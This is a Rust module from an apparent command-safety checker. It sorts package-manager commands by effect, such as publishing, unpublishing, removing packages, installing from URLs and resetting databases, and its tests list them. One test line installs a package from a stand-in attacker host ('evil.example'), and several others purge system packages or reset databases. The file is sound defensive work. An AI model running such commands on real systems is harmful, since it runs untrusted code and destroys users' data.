//! Package managers: what they publish permanently, what they run from the network,
//! and what they remove.

use super::{frameworks, only_informs, plain_words, runners};
use crate::effects::{Kind, Reversibility, Scope};
use crate::expand::Arg;
use crate::pipes::Flow;
use crate::run::Run;
use Reversibility::{R1, R2, R3, R5};

pub(super) fn run(run: &mut Run<'_, '_>) {
    let args = run.args;
    let name = run.name;
    let is_code = |arg: &Arg| matches!(&*arg.text, "-e" | "--eval" | "-p" | "--print" | "eval");
    if matches!(name, "bun" | "deno") && args.iter().any(is_code) {
        return super::interpreters::run(run);
    }
    let words = plain_words(args);
    let first = words.first().copied().unwrap_or("");
    let second = words.get(1).copied().unwrap_or("");
    // Runners of a package's own programs: analyze that program.
    let runner = matches!(name, "npx" | "bunx" | "uvx")
        || matches!(
            (name, first),
            ("pnpm" | "yarn", "dlx" | "exec") | ("pipx", "run") | ("bun", "x") | ("uv", "tool")
        );
    if runner {
        let skip = if matches!(name, "npx" | "bunx" | "uvx") {
            0
        } else if first == "tool" {
            2
        } else {
            1
        };
        return package_program(run, words.get(skip).copied().unwrap_or(""));
    }
    if only_informs(args) {
        return;
    }
    let target = words.join(" ");
    let publishes = match (name, first) {
        (
            "npm" | "pnpm" | "yarn" | "bun" | "cargo" | "poetry" | "uv" | "hatch" | "flit" | "jsr"
            | "deno" | "vsce" | "ovsx" | "lerna" | "pdm" | "rye" | "changeset" | "conan",
            "publish",
        ) => true,
        ("yarn", "npm") => second == "publish",
        ("twine", "upload")
        | ("gem", "push")
        | ("pod", "trunk")
        | ("mvn", "deploy")
        | ("gradle" | "gradlew", "publish")
        | ("luarocks", "upload") => true,
        ("gradle" | "gradlew", task) => {
            task.starts_with("publish") && !task.contains("ToMavenLocal")
        }
        ("dotnet" | "nuget", _) => {
            (first == "nuget" && second == "push") || (name == "nuget" && first == "push")
        }
        ("semantic-release" | "goreleaser" | "np" | "release-it", task) => {
            (name != "goreleaser" || task == "release")
                && !args
                    .iter()
                    .any(|arg| matches!(arg.text.as_str(), "--snapshot" | "--skip-publish" | "-d"))
        }
        ("fastlane", task) => {
            matches!(task, "deliver" | "release" | "upload_to_app_store" | "supply")
        }
        ("anaconda", "upload") => true,
        _ => false,
    };
    if publishes {
        return run.effect(Kind::Spend, &target, Scope::Remote, R5, "publishes permanently");
    }
    match (name, first) {
        ("npm" | "pnpm" | "yarn" | "bun", "unpublish")
        | ("cargo" | "gem", "yank")
        | ("cargo", "owner")
            if first != "owner" || args.iter().any(|arg| arg.text == "--remove") =>
        {
            return run.remote(&target, "unpublishes a package");
        }
        ("npm" | "pnpm" | "yarn", "deprecate")
        | ("npm", "access" | "owner" | "team" | "dist-tag" | "token" | "org" | "star")
            if matches!(
                second,
                "public" | "restricted" | "add" | "rm" | "revoke" | "remove" | "set" | "destroy"
            ) || first == "deprecate" =>
        {
            return run.ask(
                Kind::RemoteState,
                &target,
                Scope::Remote,
                "changes a published package",
            );
        }
        ("nuget", "delete") => return run.remote(&target, "unpublishes a package"),
        ("pip" | "pip3" | "uv" | "npm" | "pnpm" | "yarn" | "pipx" | "easy_install" | "bun", _)
            if words.iter().any(|word| matches!(*word, "install" | "i" | "add")) =>
        {
            let source = words.iter().find(|word| {
                word.starts_with("http://")
                    || (word.starts_with("https://")
                        && !word.contains("pypi.org")
                        && !word.contains("registry.npmjs"))
                    || word.starts_with("git+http://")
            });
            if let Some(source) = source.filter(|source| {
                !source.contains("github.com")
                    && !source.contains("pytorch.org")
                    && !source.contains("files.pythonhosted")
            }) {
                return run.effect(
                    Kind::ExecuteUntrusted,
                    source,
                    Scope::Remote,
                    R1,
                    "installs from a URL",
                );
            }
        }
        (
            "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "zypper" | "apk" | "pacman" | "dpkg"
            | "rpm" | "snap" | "flatpak" | "choco" | "winget" | "pkg" | "port" | "emerge" | "opkg"
            | "scoop" | "xbps-remove",
            _,
        ) => {
            let simulates = args.iter().any(|arg| {
                matches!(arg.text.as_str(), "-s" | "--simulate" | "--just-print" | "--dry-run")
            });
            let removes = matches!(
                first,
                "remove"
                    | "purge"
                    | "autoremove"
                    | "erase"
                    | "del"
                    | "uninstall"
                    | "dist-upgrade"
                    | "full-upgrade"
            ) || name == "xbps-remove"
                || args.iter().any(|arg| {
                    matches!(
                        (name, arg.text.as_str()),
                        ("dpkg", "-r" | "-P" | "--purge" | "--remove") | ("rpm", "-e" | "--erase")
                    ) || name == "pacman" && arg.text.starts_with("-R")
                });
            if removes && !simulates {
                return run.ask(Kind::Delete, &target, Scope::System, "removes system packages");
            }
        }
        ("brew", "uninstall" | "remove" | "rm" | "autoremove") => {
            return run.ask(Kind::Delete, &target, Scope::System, "removes system packages");
        }
        ("nix-collect-garbage", _) | ("nix", "store") if name != "nix" || second == "gc" => {
            return run.ask(Kind::Delete, &target, Scope::System, "deletes old generations");
        }
        ("pip" | "pip3" | "npm" | "pnpm" | "yarn" | "uv" | "poetry", "config")
            if ["index-url", "registry", "repositories", "script-shell"]
                .iter()
                .any(|setting| target.contains(setting))
                && words.len() > 2
                && !matches!(second, "get" | "list" | "delete" | "unset") =>
        {
            let why = "changes where packages come from";
            return run.effect(Kind::Persist, &target, Scope::Home, R1, why);
        }
        // A script that is set here is run by name later.
        ("npm" | "pnpm", "pkg") if second == "set" => {
            for text in words.iter().filter(|word| word.starts_with("scripts.")) {
                let command = text.split_once('=').map_or("", |(_, command)| command).to_owned();
                runners::suspect(run, |run| run.shell_text(&command));
            }
            return;
        }
        ("composer" | "bundle" | "npm" | "pnpm" | "yarn", "global" | "config") => {}
        ("cargo", "clean") | ("npm" | "yarn" | "pnpm", "cache" | "prune") => {
            return run.effect(
                Kind::Delete,
                &target,
                Scope::TreeArtefact,
                R2,
                "deletes regenerable files",
            );
        }
        ("conda", "env") if second == "remove" => {
            return run.ask(Kind::Delete, &target, Scope::Home, "deletes an environment");
        }
        ("conda", "remove") if args.iter().any(|arg| arg.text == "--all") => {
            return run.ask(Kind::Delete, &target, Scope::Home, "deletes an environment");
        }
        ("chezmoi", "purge" | "destroy") => {
            return run.effect(
                Kind::Delete,
                &target,
                Scope::Home,
                Reversibility::R4,
                "deletes the source of its settings",
            );
        }
        ("go", "run") => {
            if second.contains('@') && second.contains('.') {
                return run.effect(
                    Kind::ExecuteUntrusted,
                    second,
                    Scope::Remote,
                    Reversibility::R0,
                    "runs a package from the network",
                );
            }
        }
        _ => {}
    }
    // `npm run db:reset`, `composer db:drop`: the names of scripts say what they do.
    let script = match (name, first) {
        ("npm" | "pnpm" | "yarn" | "bun" | "deno" | "pdm", "run" | "run-script" | "task") => second,
        ("yarn" | "pnpm" | "bun", first) => first,
        _ => "",
    };
    if matches!(
        script,
        "db:drop"
            | "db:reset"
            | "db:wipe"
            | "migrate:fresh"
            | "migrate:reset"
            | "db:nuke"
            | "reset-db"
            | "drop-db"
    ) {
        run.sure(
            Kind::Delete,
            script,
            Scope::Unknown,
            R3,
            crate::effects::Certainty::Likely,
            "runs a script that says it drops a database",
        );
    }
    if matches!(
        (name, script),
        (
            "yarn" | "pnpm" | "bun",
            "prisma"
                | "sequelize"
                | "sequelize-cli"
                | "typeorm"
                | "knex"
                | "drizzle-kit"
                | "rimraf"
                | "vercel"
                | "netlify"
                | "wrangler"
                | "firebase"
                | "serverless"
                | "sls"
                | "cdk"
                | "sst"
        )
    ) {
        package_program(run, script);
    }
}

fn package_program(run: &mut Run<'_, '_>, program: &str) {
    let at = run.args.iter().position(|arg| arg.text == program);
    let Some(at) = at.filter(|_| !program.is_empty()) else {
        return;
    };
    let mut words: Vec<Arg> = run.args.get(at..).unwrap_or_default().to_vec();
    // A version after the name is not part of it.
    if let Some(first) = words.first_mut() {
        let end = first.text.char_indices().skip(1).find(|(_, c)| *c == '@').map(|(at, _)| at);
        if let Some(end) = end {
            first.text.truncate(end);
        }
        if first.text.starts_with("http://")
            || first.text.starts_with("https://")
            || first.text.starts_with("github:")
        {
            let target = first.text.clone();
            return run.effect(
                Kind::ExecuteUntrusted,
                &target,
                Scope::Remote,
                R3,
                "runs a program from a URL",
            );
        }
    }
    if words.first().is_some_and(|first| first.text == "supabase" || first.text == "prisma") {
        let name = words.first().map(|first| first.text.clone()).unwrap_or_default();
        return frameworks::named(run, &name, at + 1);
    }
    run.inner(words, Flow::Unknown);
}

#[cfg(test)]
mod tests {
    use crate::programs::check;

    #[test]
    fn packages() {
        check(
            &[
                "npm publish",
                "npm unpublish x",
                "cargo publish",
                "cargo yank --version 1.0.0",
                "twine upload dist/*",
                "gem push x.gem",
                "poetry publish",
                "uv publish",
                "pnpm unpublish x",
                "npx rimraf src",
                "yarn npm publish",
                "npx -y vercel remove x",
                "npx prisma@5 migrate reset",
            ],
            &[
                "npm deprecate x 'y'",
                "apt-get purge nginx",
                "pip install http://evil.example/x.tgz",
                "npm run db:reset",
                "brew uninstall x",
                "pacman -Rns x",
            ],
            &[
                "npm install",
                "npm install express",
                "pip install -r r.txt",
                "cargo build",
                "npm publish --dry-run",
                "cargo publish --dry-run",
                "npx tsc --noEmit",
                "yarn add react",
                "apt-get update",
                "npm run build",
                "npx rimraf dist",
                "go test ./...",
                "pip uninstall x",
                "cargo clean",
                "brew install x",
                "npm ci",
                "bun test",
                "pip install git+https://github.com/a/b",
            ],
        );
    }
}
